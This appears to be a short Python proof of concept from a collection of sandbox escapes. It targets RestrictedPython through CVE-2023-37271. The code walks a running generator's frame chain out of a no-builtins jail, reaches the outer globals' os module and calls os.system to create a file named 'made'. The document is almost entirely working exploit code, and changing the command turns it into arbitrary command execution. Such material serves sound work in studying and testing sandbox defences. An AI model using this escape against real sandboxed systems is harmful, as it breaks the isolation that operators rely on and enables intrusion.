"""A generator that runs knows its frame, and that frame those outside the jail.

Known from: CVE-2023-37271 of RestrictedPython
Effect: made
Jail: no builtins
"""
generator = (generator.gi_frame.f_back for _ in [1])
for frame in generator:
    pass
frame.f_back.f_globals["os"].system(": > made")
